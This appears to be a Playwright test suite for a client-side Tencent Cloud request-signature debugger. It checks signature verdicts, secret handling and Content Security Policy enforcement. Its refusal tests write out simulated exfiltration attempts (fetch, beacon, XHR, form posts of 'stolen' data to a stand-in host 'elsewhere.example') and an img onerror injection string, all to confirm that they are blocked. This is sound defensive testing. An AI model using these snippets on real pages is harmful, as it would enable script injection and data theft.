import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Page, Route } from "playwright-core";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { chromiumPath, type StartedBrowser, skipWithoutChromium, startChromium } from "./chromium.js";
import { escapedTwice, forms, javaLog, right, secretKey, signed, tc3Cases, v1Cases } from "./debugger-requests.js";
import { builtSite, pageKinds } from "./site/built-site.js";
import { type StaticHost, startHost } from "./site/static-hosts.js";
import { openPage, watchPage } from "./site/watch-page.js";

if (chromiumPath === undefined) it("the signature debugger, in Chromium", ({ skip }) => skipWithoutChromium(skip));
else describe("the signature debugger", () => signatureDebugger(chromiumPath ?? ""));

/** The example of the manual, with the signature that it prints. */
const MANUAL = `curl -X POST https://cvm.tencentcloudapi.com \\
  -H "Authorization: TC3-HMAC-SHA256 Credential=AKIDz8krbsJ5yKBZQpn74WFkmLPx3*******/2019-02-25/cvm/tc3_request, SignedHeaders=content-type;host, Signature=2230eefd229f582d8b1b891af7107b91597240707d778ab3738f756258d7652c" \\
  -H "Content-Type: application/json; charset=utf-8" -H "Host: cvm.tencentcloudapi.com" \\
  -H "X-TC-Action: DescribeInstances" -H "X-TC-Timestamp: 1551113065" -H "X-TC-Version: 2017-03-12" \\
  -d '{"Limit": 1, "Filters": [{"Values": ["\\u672a\\u547d\\u540d"], "Name": "instance-name"}]}'`;
const { curl, http } = forms;
const MANUAL_KEY = "Gu5t9xGARNpq86cd98joQYCN3*******";

function signatureDebugger(executablePath: string): void {
  let browser: StartedBrowser;
  let host: StaticHost;
  let elsewhere: Server;
  let heard: string[];
  let page: Page;
  let faults: readonly string[];

  beforeAll(async () => {
    host = await startHost("a host that gives files as they are", builtSite);
    browser = await startChromium(executablePath);
    elsewhere = createServer(({ url = "" }, response) => {
      heard.push(url);
      response.setHeader("Access-Control-Allow-Origin", "*").end("heard");
    });
    await new Promise<void>((resolve) => elsewhere.listen(0, "127.0.0.1", resolve));
  });
  afterAll(async () => {
    await browser.close();
    host.close();
    elsewhere.closeAllConnections();
    elsewhere.close();
  });
  beforeEach(async () => {
    heard = [];
    page = await browser.context.newPage();
    faults = watchPage(page);
    await openPage(page, `${host.origin}/${pageKinds.debugger}`);
    return () => page.close();
  });

  const judged = async (text: string, key: string): Promise<string> => {
    await page.getByLabel("The request as it was sent").fill(text);
    await page.getByLabel("Secret key").fill(key);
    return (await page.getByRole("region", { name: "What was found" }).textContent()) ?? "";
  };
  const afterHeading = (text: string) => text.trim().slice("What was found".length).trim();

  it("says of the manual's example that it is right", async () => {
    expect(afterHeading(await judged(MANUAL, MANUAL_KEY))).toMatch(/^The signature is right\./);
  });

  const pasted = Object.entries(forms);
  describe.each([...pasted, ["a log of the SDK for Java", javaLog] as const])("pasted as %s", (_, form) => {
    it.each(tc3Cases)("tells %s", async (_, sent, key, says) => {
      expect(afterHeading(await judged(form(sent), key))).toMatch(says);
      expect(faults).toEqual([]);
    });
  });
  describe.each(pasted)("pasted as %s", (_, form) => {
    it("tells a query that was escaped twice", async () => {
      const found = await judged(form(escapedTwice), secretKey);
      expect(found).toMatch(/wrong\.[\s\S]*query-escaped-twice/);
      expect(found).toContain("First difference: canonical request, line 3, column 34: query");
    });
    it.each(v1Cases)("tells of v1 %s", async (_, sent, key, says) => {
      expect(afterHeading(await judged(form(sent), key))).toMatch(says);
    });
  });

  it("shows the parts of a request, and its texts, without a secret", async () => {
    const found = await judged(http(right), "");
    expect(found).toContain("The signature is not judged: that takes the secret key.");
    for (const line of signed.canonicalRequest.split("\n")) expect(found).toContain(line);
    const rowOf = (name: string) => page.getByRole("row", { name }).first().textContent();
    expect(await rowOf("Credential scope")).toContain("2026-01-02/cvm/tc3_request");
    expect(await rowOf("x-tc-action")).toContain("DescribeInstances");
    expect(await rowOf("Body")).toContain(right.body);
  });

  it("compares with what the client built, and marks the line", async () => {
    await judged(curl(right), "");
    await page.getByText("Compare with what the client built").click();
    const own = page.getByLabel("The client's canonical request");
    await own.fill(signed.canonicalRequest.replace("host:cvm", "host:CVM"));
    await page.getByText("First difference: canonical request, line 5, column 6: header host").waitFor();
    expect(await page.locator("ol mark").allInnerTexts()).toEqual(["host:cvm.tencentcloudapi.com"]);
    await own.fill(signed.canonicalRequest);
    await page.getByText("What the client built is the same").waitFor();
    await page.getByLabel("The client's string to sign").fill(signed.stringToSign.replace("/cvm/", "/cbs/"));
    await page.getByText("First difference: string to sign, line 3, column 13: credential scope").waitFor();
  });

  it("says that a request is too old to be sent again", async () => {
    await page.clock.setFixedTime(new Date("2026-01-02T02:00:00Z"));
    const found = await judged(http(right), secretKey);
    expect(found).toContain("2026-01-02T00:00:00Z, 2 hours ago");
    expect(found).toContain("AuthFailure.SignatureExpire, since its time is more than 5 minutes off");
  });

  it("says what it does not understand, at the field", async () => {
    await page.getByLabel("The request as it was sent").fill("hello");
    const field = page.getByLabel("The request as it was sent");
    expect(await field.getAttribute("aria-invalid")).toBe("true");
    expect(await page.locator("#request-fault").textContent()).toMatch(
      /holds no request: expected a command line of curl/,
    );
    await field.fill("");
    expect(await field.getAttribute("aria-invalid")).toBeNull();
    expect(await page.getByRole("status").textContent()).toBe("Nothing yet: paste a request.");
  });

  it("reads nothing that is pasted as HTML", async () => {
    const text = `curl https://a.example -H 'X-TC-Action: <img src=x onerror="document.title=1">' -d '<b>bold</b>'`;
    expect(await judged(text, "")).toContain("<b>bold</b>");
    expect(await page.locator("#findings :is(img, b)").count()).toBe(0);
    expect(faults).toEqual([]);
  });

  it("keeps the secret in memory, masked, until the page is left", async () => {
    const text = http(right);
    await judged(text.replace("\n\n", "\nX-TC-Token: a-token-of-a-temporary-key\n\n"), secretKey);
    const secret = page.getByLabel("Secret key");
    expect(await secret.getAttribute("type")).toBe("password");
    await page.getByRole("button", { name: "Show", exact: true }).click();
    expect(await secret.getAttribute("type")).toBe("text");
    const kept = await page.evaluate(() => [
      document.documentElement.outerHTML,
      location.href,
      document.cookie,
      JSON.stringify({ ...localStorage, ...sessionStorage }),
      JSON.stringify(history.state),
    ]);
    for (const place of kept) {
      expect(place).not.toContain(secretKey);
      expect(place).not.toContain("a-token-of-a-temporary-key");
    }
    await page.getByRole("link", { name: "tcrkit" }).click();
    await page.goBack();
    expect(await secret.inputValue()).toBe("");
    expect(await page.getByLabel("The request as it was sent").inputValue()).toBe("");
  });

  it("says on the page that it sends nothing, and by which policy", async () => {
    const meta = await page.locator("meta[http-equiv]").getAttribute("content");
    expect(meta).toMatch(/^default-src 'none'; script-src 'self'; style-src 'self';/);
    expect(await page.getByText("This page sends nothing.").isVisible()).toBe(true);
    await page.getByText("The policy", { exact: true }).click();
    expect(await page.getByText(meta ?? "none", { exact: true }).isVisible()).toBe(true);
  });

  it.each(attempts)("is refused %s", async (name, directive, attempt) => {
    const { port } = elsewhere.address() as AddressInfo;
    const tried = async (by: string) => {
      for (const to of [`http://elsewhere.example:${port}/stolen`, `${host.origin}/guides/start.html`]) {
        const answers: string[] = [];
        page.on("response", (response) => answers.push(response.url()));
        expect(await page.evaluate(refusalOf, [attempt, to, by] as const)).toContain(by);
        expect(answers).toEqual([]);
      }
    };
    await tried(MADE_OF_TEXT.includes(name) ? "require-trusted-types-for" : directive);
    // The same in a browser that does not know that directive.
    await page.route(`**/${pageKinds.debugger}`, withoutTrustedTypes);
    await openPage(page, `${host.origin}/${pageKinds.debugger}`);
    if (name !== "HTML that is made of a text") await tried(directive);
    expect(heard).toEqual([]);
  });

  it("is reached by a load of its own, and left by one", async () => {
    await openPage(page, `${host.origin}/${pageKinds.guide}`);
    await page.evaluate(() => Object.assign(globalThis, { isFirst: true }));
    await page.getByRole("navigation").getByRole("link", { name: "Debugger" }).first().click();
    await page.getByRole("heading", { level: 1, name: "Signature debugger" }).waitFor();
    expect(await page.evaluate(() => "isFirst" in globalThis)).toBe(false);
    expect(await page.locator("script").count()).toBe(1);
    expect(await page.locator("meta[http-equiv]").getAttribute("content")).not.toContain("connect-src");
  });

  it("is used with the keyboard alone", async () => {
    const passed: string[] = [];
    for (let count = 0; count < 16; count++) {
      await page.keyboard.press("Tab");
      passed.push(await page.evaluate(() => document.activeElement?.id || (document.activeElement?.textContent ?? "")));
      if (passed.at(-1) === "secret") await page.keyboard.type(secretKey);
      if (passed.at(-1) === "request") await page.keyboard.insertText("hello");
    }
    expect(passed.slice(0, 2)).toEqual(["Skip to the request", "tcrkit"]);
    const inputs = ["request", "example", "clear", "secret", "reveal"];
    expect(passed.filter((name) => inputs.includes(name))).toEqual(inputs);
    expect(await page.getByRole("status").textContent()).toBe("There is no request in this text.");
  });
}

/** What a script of the page could try, by the directive that refuses it. */
const attempts: readonly (readonly [name: string, directive: string, attempt: string])[] = [
  ["fetch", "connect-src", "fetch"],
  ["XMLHttpRequest", "connect-src", "xhr"],
  ["WebSocket", "connect-src", "socket"],
  ["EventSource", "connect-src", "events"],
  ["a beacon", "connect-src", "beacon"],
  ["an image", "img-src", "image"],
  ["a frame", "frame-src", "frame"],
  ["a font", "font-src", "font"],
  ["a worker", "worker-src", "worker"],
  ["a form", "form-action", "form"],
  ["a base for its links", "base-uri", "base"],
  ["text that is evaluated", "script-src", "eval"],
  ["a script within the page", "script-src-elem", "script"],
  ["a style within the page", "style-src-elem", "style"],
  ["a style attribute", "style-src-attr", "attribute"],
  ["an event handler within the page", "script-src-attr", "handler"],
  ["HTML that is made of a text", "require-trusted-types-for", "html"],
];

/** What is refused before it comes to its own directive. */
const MADE_OF_TEXT = [
  "a worker",
  "text that is evaluated",
  "a script within the page",
  "an event handler within the page",
];

async function withoutTrustedTypes(route: Route): Promise<void> {
  const response = await route.fetch();
  const without = (text = "") => text.replace(/; require-trusted-types-for 'script'; trusted-types 'none'/, "");
  const { "content-security-policy": policy, ...headers } = response.headers();
  const body = without(await response.text());
  await route.fulfill({ status: 200, headers: { ...headers, "content-security-policy": without(policy) }, body });
}

/** Tries it in a turn of its own, as the page's script would, and gives the directives that refused something. */
async function refusalOf([attempt, to, directive]: readonly [string, string, string]): Promise<string[]> {
  const refused: string[] = [];
  const add = (name: string, attributes: Readonly<Record<string, string>>, text = ""): HTMLElement => {
    const made = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
    made.append(text);
    document.body.append(made);
    return made;
  };
  const tries: Readonly<Record<string, () => unknown>> = {
    fetch: () => fetch(to).catch(() => undefined),
    xhr: () => {
      const request = new XMLHttpRequest();
      request.open("POST", to);
      request.send("stolen");
    },
    socket: () => new WebSocket(to.replace("http", "ws")),
    events: () => new EventSource(to),
    beacon: () => navigator.sendBeacon(to, "stolen"),
    image: () => add("img", { src: to }),
    frame: () => add("iframe", { src: to }),
    font: () => new FontFace("stolen", `url(${to})`).load().catch(() => undefined),
    // One of another site is refused in any case.
    worker: () => new Worker(new URL(to).pathname),
    form: () => (add("form", { action: to, method: "post" }) as HTMLFormElement).submit(),
    base: () => document.head.append(Object.assign(document.createElement("base"), { href: to })),
    // biome-ignore lint/security/noGlobalEval: what is tried.
    eval: () => eval("1"),
    script: () => add("script", {}, "1"),
    style: () => add("style", {}, "body { display: none }"),
    attribute: () => add("p", { style: "color: red" }),
    handler: () => add("p", { onclick: "1" }).click(),
    html: () => Object.assign(document.createElement("p"), { innerHTML: "<b>1</b>" }),
  };
  await new Promise<void>((resolve) => {
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
      refused.push(effectiveDirective);
      if (effectiveDirective === directive) resolve();
    });
    setTimeout(() => {
      try {
        tries[attempt]?.();
      } catch {
        // Told by the event.
      }
    }, 0);
    // What is not refused ends as well.
    setTimeout(resolve, 5000);
  });
  return refused;
}
